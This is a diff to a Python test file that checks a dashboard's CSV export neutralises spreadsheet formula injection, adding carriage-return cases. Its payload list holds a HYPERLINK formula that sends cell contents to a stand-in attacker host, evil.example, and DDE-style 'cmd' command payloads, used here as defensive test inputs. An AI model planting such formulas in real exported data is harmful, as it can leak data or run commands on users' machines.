@@ -25,7 +25,7 @@ from dashboard.cli import cli
 
 TRACKER = "iqiyi-nadou"
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3 爱奇艺", "@ SUM(1+1)",
-            "\t=1+1", "'=already quoted"]
+            "\t=1+1", "\r=1+1", "'=already quoted", "a bare\rcarriage return"]
 
 
 def _spreadsheet_formula(cell: str) -> bool:
@@ -53,7 +53,7 @@ def test_numbers_are_not_quoted() -> None:
 
 
 def test_chart_csv_quotes_formula_text_and_keeps_negative_numbers() -> None:
-    frame = pd.DataFrame({"keyword": ["=cmd|' /C calc'!A0", "AI演员"], "net": [-0.25, 0.5]})
+    frame = pd.DataFrame({"keyword": ["=cmd|' /C calc'!A0", "AI\r演员"], "net": [-0.25, 0.5]})
     text = csv_bytes(frame).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[1] == ["'=cmd|' /C calc'!A0", "-0.25"]
